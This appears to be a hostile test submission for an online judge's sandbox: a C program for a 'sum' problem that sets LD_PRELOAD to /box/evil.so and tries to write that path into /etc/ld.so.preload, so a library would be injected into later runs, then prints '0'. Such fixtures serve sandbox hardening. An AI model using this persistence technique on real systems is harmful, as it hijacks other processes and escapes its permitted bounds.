problem: sum
language: c
tries: a library to be preloaded into the next run
---
#include <stdio.h>
#include <stdlib.h>
int main(void) {
  setenv("LD_PRELOAD", "/box/evil.so", 1);
  FILE* f = fopen("/etc/ld.so.preload", "w");
  if (f) fputs("/box/evil.so", f);
  puts("0");
  return 0;
}
